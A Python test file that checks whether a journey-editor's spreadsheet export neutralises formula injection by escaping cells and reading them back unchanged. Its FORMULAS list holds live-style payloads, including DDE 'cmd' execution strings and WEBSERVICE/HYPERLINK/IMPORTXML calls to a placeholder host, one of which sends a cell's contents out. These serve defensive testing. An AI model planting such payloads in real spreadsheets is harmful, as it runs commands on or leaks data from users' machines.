"""Text that a spreadsheet would compute stays text, and comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from journeyeditor.importing.reading import read_table
from journeyeditor.importing.spreadsheet import spreadsheet
from journeyeditor.model.formulas import as_line, as_meant, as_text
from journeyeditor.model.signs import cleaned

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*HYPERLINK("//relcanary/x")',
    '\t=HYPERLINK("http://relcanary")',
    "\r=1+1",
    '  =WEBSERVICE("http://relcanary/"&A1)',
    '＝IMPORTXML("http://relcanary")',
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_and_the_text_comes_back(text: str) -> None:
    data = spreadsheet([["card", "other"], [text, "x"]])
    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert cells[1][0] == f"'{text}"
    assert read_table(data).rows[1][0] == cleaned(text)


def test_a_number_with_a_sign_stays_a_number() -> None:
    assert [as_text(text) for text in ("-12,5", "+3", "-1.000")] == ["-12,5", "+3", "-1.000"]
    assert as_text("-") == "'-"


def test_a_line_for_a_mail_gets_an_apostrophe_only_where_it_could_reach_something() -> None:
    assert as_line("- wachten") == "- wachten"
    assert as_line("=HYPERLINK(A1)") == "'=HYPERLINK(A1)"


@given(st.text(alphabet="'=+-@\t\r\n 1a", max_size=6))
@example("'\t")
def test_what_is_meant_survives(text: str) -> None:
    assert as_meant(as_text(text)) == text
